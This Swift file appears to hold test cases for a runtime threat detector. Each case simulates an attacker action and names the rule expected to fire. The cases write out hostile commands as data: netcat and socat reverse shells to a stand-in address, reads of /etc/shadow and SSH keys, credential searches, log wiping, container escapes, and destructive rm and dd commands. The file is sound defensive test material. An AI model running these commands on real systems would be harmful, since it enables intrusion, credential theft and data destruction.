// SPDX-License-Identifier: Apache-2.0

/// One thing that a process does, and which rule it is about.
struct Behaviour: Sendable, CustomStringConvertible {
    let rule: String
    let what: String
    /// What is done; answers with the rules that fired.
    let act: @Sendable (Stage) throws -> [String]

    init(_ rule: String, _ what: String, _ act: @escaping @Sendable (Stage) throws -> [String]) {
        (self.rule, self.what, self.act) = (rule, what, act)
    }
    var description: String { "\(rule): \(what)" }
}

/// Values of the wire.
enum Flag {
    static let write: UInt32 = 2 | 4
    static let truncate: UInt32 = 2 | 4 | 256
    static let created: UInt32 = 16384
    static let upperLayer: UInt32 = 2
    static let memfd: UInt32 = 4
    static let packet: UInt32 = 17
    static let ptraceMe: UInt16 = 1, ptraceAttach: UInt16 = 11, pokeText: UInt16 = 5, getRegisters: UInt16 = 26
    static let sysAdmin: UInt64 = 1 << 21
}

extension Behaviour {
    static let publicAddress: [UInt8] = [203, 0, 113, 10]

    /// What must be told. The first one of each rule is the plainest.
    static let told: [Behaviour] = [
        // reading
        .init("Directory traversal monitored file read", "a server climbs to the hashes") { s in
            try s.open("/etc/../etc/../etc/shadow", by: s.process(.init(name: "httpd")))
        },
        .init("Directory traversal monitored file read", "an attempt that fails") { s in
            try s.open("../../etc/krb5.keytab", fd: -2, by: s.process(.init(name: "httpd")))
        },
        .init("Directory traversal monitored file read", "somebody's key, with slashes between") { s in
            try s.open("/home/ada/..//..//home/ada/.ssh/key", by: s.process(.init(name: "python3")), with: .openat2)
        },
        .init("Directory traversal monitored file read", "a key lying about") { s in
            try s.open("/tmp/../tmp/../tmp/my_id_rsa", by: s.process(.init(name: "java")), with: .open)
        },
        .init("Read sensitive file trusted after startup", "a web server, an hour old") { s in
            try s.open("/etc/shadow", by: s.process(.init(name: "nginx", path: "/usr/sbin/nginx")))
        },
        .init("Read sensitive file trusted after startup", "a database") { s in
            try s.open("/etc/sudoers", by: s.process(.init(name: "mariadbd", path: "/usr/sbin/mariadbd")))
        },
        .init("Read sensitive file trusted after startup", "a container runtime") { s in
            try s.open("/etc/shadow", by: s.process(.init(name: "containerd-shim")))
        },
        .init("Read sensitive file untrusted", "cat") { s in try s.open("/etc/shadow", by: s.process(.init(name: "cat"))) },
        .init("Read sensitive file untrusted", "by open") { s in
            try s.open("/etc/gshadow", by: s.process(.init(name: "cat")), with: .open)
        },
        .init("Read sensitive file untrusted", "by openat2") { s in
            try s.open("/etc/sudoers.d/admins", by: s.process(.init(name: "cat")), with: .openat2)
        },
        .init("Read sensitive file untrusted", "by a handle") { s in
            try s.open("/etc/shadow", by: s.process(.init(name: "shocker")), with: .byHandle)
        },
        .init("Read sensitive file untrusted", "relative to where it is") { s in
            try s.open("shadow", by: s.process(.init(name: "cat", cwd: "/etc/")))
        },
        .init("Read sensitive file untrusted", "for reading and writing") { s in
            try s.open("/etc/pam.d/sshd", flags: 3, by: s.process(.init(name: "vi")))
        },
        .init("Read sensitive file untrusted", "through the root of another process") { s in
            try s.open("/proc/1/root/etc/shadow", by: s.process(.init(name: "cat")))
        },
        .init("Read sensitive file untrusted", "a shell by itself") { s in
            try s.open("/etc/shadow", by: s.process(.init(name: "bash")))
        },
        .init("Read sensitive file untrusted", "a copy with a trusted name") { s in
            try s.open("/etc/shadow", by: s.process(.init(name: "sshd", path: "/tmp/sshd")))
        },
        .init("Read sensitive file untrusted", "a trusted name, in memory only") { s in
            try s.open("/etc/shadow", by: s.process(.init(name: "sshd", path: "/memfd:x", exeFlags: Flag.memfd)))
        },
        .init("Read sensitive file untrusted", "a script with a trusted name") { s in
            try s.open("/etc/shadow", by: s.process(.init(name: "sshd", path: "/usr/bin/python3.13")))
        },
        .init("Read sensitive file untrusted", "a trusted name, put into a container") { s in
            try s.open(
                "/etc/shadow", by: s.process(.init(name: "su", inContainer: true, exeFlags: Flag.upperLayer)))
        },
        .init("Read sensitive file untrusted", "what a package of a language installs") { s in
            let pip = s.process(.init(name: "pip", path: "/usr/bin/python3.13"))
            return try s.open("/etc/shadow", by: s.process(.init(name: "python3", parent: pip)))
        },

        // shells
        .init("Run shell untrusted", "a web server") { s in
            let server = s.process(.init(name: "nginx"))
            return try s.start(.init(name: "sh", arguments: ["-c", "id; uname -a"], parent: server))
        },
        .init("Run shell untrusted", "with something between") { s in
            let server = s.process(.init(name: "apache2"))
            let between = s.process(.init(name: "timeout", parent: server))
            return try s.start(.init(name: "dash", arguments: ["-c", "id"], parent: between))
        },
        .init("Run shell untrusted", "by a link to the shell") { s in
            let server = s.process(.init(name: "redis-server"))
            return try s.start(
                .init(name: "x", path: "/usr/bin/dash", arguments: ["-c", "id"], parent: server, exe: "/tmp/x"))
        },
        .init("Run shell untrusted", "by busybox") { s in
            let server = s.process(.init(name: "postgres"))
            return try s.start(.init(name: "busybox", arguments: ["sh", "-i"], parent: server))
        },
        .init("Run shell untrusted", "a harmless beginning of the command") { s in
            let server = s.process(.init(name: "consul"))
            return try s.start(.init(name: "sh", arguments: ["-c", "curl localhost; id"], parent: server))
        },
        .init("Run shell untrusted", "java of a known service") { s in
            let server = s.process(.init(name: "java", arguments: ["-cp", "x", "org.apache.zookeeper.server.Main"]))
            return try s.start(.init(name: "bash", arguments: ["-i"], parent: server))
        },
        .init("System user interactive", "below a remote login") { s in
            let server = s.process(.init(name: "sshd"))
            return try s.start(.init(name: "id", parent: server, uid: 33))
        },
        .init("System user interactive", "below today's session process of it") { s in
            let server = s.process(.init(name: "sshd-session"))
            return try s.start(.init(name: "id", parent: server, uid: 33))
        },
        .init("System user interactive", "on a console") { s in try s.start(.init(name: "login", uid: 33)) },
        .init("System user interactive", "su with a terminal") { s in
            let su = s.process(.init(name: "su", tty: 34817))
            return try s.start(.init(name: "bash", parent: su, uid: 33, tty: 34817))
        },
        .init("Terminal shell in container", "exec into it") { s in
            let shim = s.process(.init(name: "containerd-shim"))
            return try s.start(
                .init(name: "bash", arguments: ["-c", "ls"], parent: shim, tty: 34816, inContainer: true))
        },
        .init("Terminal shell in container", "a terminal that a program made") { s in
            let python = s.process(.init(name: "python3", tty: 34816, inContainer: true))
            return try s.start(.init(name: "sh", parent: python, tty: 34816, inContainer: true))
        },

        // containers and networks
        .init("Contact K8S API Server From Container", "curl") { s in
            let curl = s.process(.init(name: "curl", inContainer: true))
            return try s.connect(to: Stage.serviceAddress, 443, by: curl)
        },
        .init("Contact K8S API Server From Container", "a connection on its way") { s in
            let curl = s.process(.init(name: "curl", inContainer: true))
            return try s.connect(to: Stage.serviceAddress, 443, result: -115, by: curl)
        },
        .init("Netcat Remote Code Execution in Container", "nc -e") { s in
            try s.start(.init(name: "nc", arguments: ["-e", "/bin/sh", "203.0.113.10", "22"], inContainer: true))
        },
        .init("Netcat Remote Code Execution in Container", "options together") { s in
            try s.start(.init(name: "nc", arguments: ["-lvnpe/bin/sh", "22"], inContainer: true))
        },
        .init("Netcat Remote Code Execution in Container", "ncat's long options") { s in
            try s.start(.init(name: "ncat", arguments: ["203.0.113.10", "22", "--sh-exec", "id"], inContainer: true))
        },
        .init("Netcat Remote Code Execution in Container", "another name") { s in
            try s.start(.init(name: "updater", arguments: ["203.0.113.10", "22", "-ve", "/bin/bash"], inContainer: true))
        },
        .init("Netcat Remote Code Execution in Container", "socat") { s in
            try s.start(.init(name: "socat", arguments: ["tcp:203.0.113.10:22", "exec:sh,pty"], inContainer: true))
        },
        .init("Packet socket created in container", "AF_PACKET") { s in
            try s.socket(Flag.packet, by: s.process(.init(name: "sniff", inContainer: true)))
        },
        .init("Redirect STDOUT/STDIN to Network Connection in Container", "dup2 onto standard input") { s in
            let tid = s.process(.init(name: "perl", inContainer: true))
            _ = try s.connect(to: publicAddress, 4444, by: tid)
            return try s.dup2(4, 0, by: tid)
        },
        .init("Redirect STDOUT/STDIN to Network Connection in Container", "a shell that was given one") { s in
            try s.start(.init(name: "sh", arguments: ["-c", "id"], inContainer: true), stdin: publicAddress)
        },
        .init("Disallowed SSH Connection Non Standard Port", "443") { s in
            try s.connect(to: publicAddress, 443, by: s.process(.init(name: "ssh")))
        },
        .init("Disallowed SSH Connection Non Standard Port", "another name for it") { s in
            try s.connect(to: publicAddress, 8080, result: -115, by: s.process(.init(name: "x", path: "/usr/bin/ssh")))
        },
        .init("Linux Kernel Module Injection Detected", "in a container") { s in
            try s.loadModule("/lib/modules/6.1/x.ko", by: s.process(.init(name: "insmod", inContainer: true)))
        },
        .init("Linux Kernel Module Injection Detected", "from a place where modules do not lie") { s in
            try s.loadModule("/tmp/x.ko", by: s.process(.init(name: "insmod")))
        },
        .init("Debugfs Launched in Privileged Container", "with the right to mount") { s in
            try s.start(.init(name: "debugfs", inContainer: true, capabilities: Flag.sysAdmin))
        },
        .init("Detect release_agent File Container Escapes", "a redirection") { s in
            try s.open(
                "/sys/fs/cgroup/rdma/release_agent", flags: Flag.write, by: s.process(.init(name: "sh", inContainer: true)))
        },
        .init("Detect release_agent File Container Escapes", "by creat") { s in
            try s.creat("/tmp/cgrp/release_agent", by: s.process(.init(name: "x", uid: 33, inContainer: true)))
        },
        .init("Drop and execute new binary in container", "in the layer of the container") { s in
            try s.start(.init(name: "ls2", inContainer: true, exeFlags: Flag.upperLayer))
        },
        .init("Drop and execute new binary in container", "on a file system in memory") { s in
            try s.start(.init(name: "miner", path: "/tmp/miner", inContainer: true))
        },

        // searching, clearing, linking
        .init("Search Private Keys or Passwords", "find") { s in
            try s.start(.init(name: "find", arguments: ["/home", "-iname", "id_rsa"]))
        },
        .init("Search Private Keys or Passwords", "grep") { s in
            try s.start(.init(name: "grep", arguments: ["-r", "BEGIN RSA PRIVATE", "/home"]))
        },
        .init("Search Private Keys or Passwords", "awk, under another name") { s in
            try s.start(.init(name: "x", path: "/usr/bin/mawk", arguments: ["/begin openssh private/"]))
        },
        .init("Find AWS Credentials", "grep") { s in
            try s.start(.init(name: "grep", arguments: ["-ri", "AWS_SECRET_ACCESS_KEY", "/home"]))
        },
        .init("Find AWS Credentials", "find") { s in
            try s.start(.init(name: "find", arguments: ["/", "-path", "*.aws/credentials"]))
        },
        .init("Clear Log Activities", "truncated") { s in
            try s.open("/var/log/nginx/access.log", flags: Flag.truncate, by: s.process(.init(name: "bash")))
        },
        .init("Clear Log Activities", "a log of record somewhere else") { s in
            try s.open("/srv/logs/auth.log", flags: Flag.truncate | Flag.created, by: s.process(.init(name: "bash")))
        },
        .init("Clear Log Activities", "by creat") { s in try s.creat("/var/log/x", by: s.process(.init(name: "perl"))) },
        .init("Clear Log Activities", "by truncate") { s in
            try s.open("/var/log/syslog", flags: Flag.write, by: s.process(.init(name: "truncate")))
        },
        .init("Clear Log Activities", "a copy with the name of logrotate") { s in
            try s.open("/var/log/x", flags: Flag.truncate, by: s.process(.init(name: "logrotate", path: "/home/ada/logrotate")))
        },
        .init("Clear Log Activities", "a job of the night that clears a log of record") { s in
            let cron = s.process(.init(name: "cron"))
            return try s.open("/var/log/auth.log", flags: Flag.truncate, by: s.process(.init(name: "sh", parent: cron)))
        },
        .init("Remove Bulk Data from Disk", "shred") { s in try s.start(.init(name: "shred", arguments: ["-u", "x"])) },
        .init("Remove Bulk Data from Disk", "by a link") { s in try s.start(.init(name: "x", path: "/usr/bin/shred")) },
        .init("Remove Bulk Data from Disk", "dd") { s in
            try s.start(.init(name: "dd", arguments: ["if=/dev/zero", "of=/dev/sda"]))
        },
        .init("Remove Bulk Data from Disk", "everything") { s in
            try s.start(.init(name: "rm", arguments: ["-rf", "--no-preserve-root", "/"]))
        },
        .init("Create Symlink Over Sensitive Files", "a file") { s in
            try s.symlink("/etc/shadow", at: "/tmp/x", by: s.process(.init(name: "ln")))
        },
        .init("Create Symlink Over Sensitive Files", "a directory") { s in
            try s.symlink("/etc", at: "/tmp/x", by: s.process(.init(name: "ln")))
        },
        .init("Create Symlink Over Sensitive Files", "relative") { s in
            try s.symlink("../../etc/shadow", at: "/var/tmp/x", by: s.process(.init(name: "ln")))
        },
        .init("Create Hardlink Over Sensitive Files", "a file") { s in
            try s.link("/etc/shadow", to: "/root/x", by: s.process(.init(name: "ln")))
        },
        .init("Create Hardlink Over Sensitive Files", "relative") { s in
            try s.link("sudoers", to: "/root/x", by: s.process(.init(name: "ln", cwd: "/etc/")))
        },

        // processes
        .init("PTRACE attached to process", "PTRACE_ATTACH") { s in
            try s.ptrace(Flag.ptraceAttach, of: 1, by: s.process(.init(name: "inject")))
        },
        .init("PTRACE attached to process", "PTRACE_POKETEXT") { s in
            try s.ptrace(Flag.pokeText, of: 1, by: s.process(.init(name: "inject")))
        },
        .init("PTRACE attached to process", "its memory in /proc") { s in
            try s.open("/proc/1/mem", flags: 3, by: s.process(.init(name: "inject")))
        },
        .init("PTRACE anti-debug attempt", "PTRACE_TRACEME") { s in
            try s.ptrace(Flag.ptraceMe, of: 0, by: s.process(.init(name: "packed")))
        },
        .init("PTRACE anti-debug attempt", "below a parent that calls itself a debugger") { s in
            let parent = s.process(.init(name: "gdb", path: "/tmp/gdb"))
            return try s.ptrace(Flag.ptraceMe, of: 0, by: s.process(.init(name: "packed", parent: parent)))
        },
        .init("Execution from /dev/shm", "a program") { s in try s.start(.init(name: "x", path: "/dev/shm/x")) },
        .init("Execution from /dev/shm", "a script, as the kernel starts it") { s in
            try s.start(.init(name: "x", path: "/usr/bin/dash", arguments: ["-e", "/dev/shm/x"], exe: "/bin/sh"))
        },
        .init("Execution from /dev/shm", "a command of a shell") { s in
            try s.start(.init(name: "sh", arguments: ["-c", "/dev/shm/x"]))
        },
        .init("Execution from /dev/shm", "an interpreter") { s in
            try s.start(.init(name: "python3", path: "/usr/bin/python3.13", arguments: ["/dev/shm/x.py"]))
        },
        .init("Execution from /dev/shm", "from within") { s in
            try s.start(.init(name: "bash", arguments: ["x.sh"], cwd: "/dev/shm/"))
        },
        .init("Execution from /dev/shm", "in a container") { s in
            try s.start(.init(name: "sh", arguments: ["-c", "/dev/shm/x"], inContainer: true))
        },
        .init("Fileless execution via memfd_create", "a program") { s in
            try s.start(.init(name: "3", path: "/memfd:x", exeFlags: Flag.memfd))
        },
        .init("Fileless execution via memfd_create", "one that calls itself a runtime") { s in
            try s.start(.init(name: "runc", path: "/memfd:x", exeFlags: Flag.memfd))
        },
    ]
}
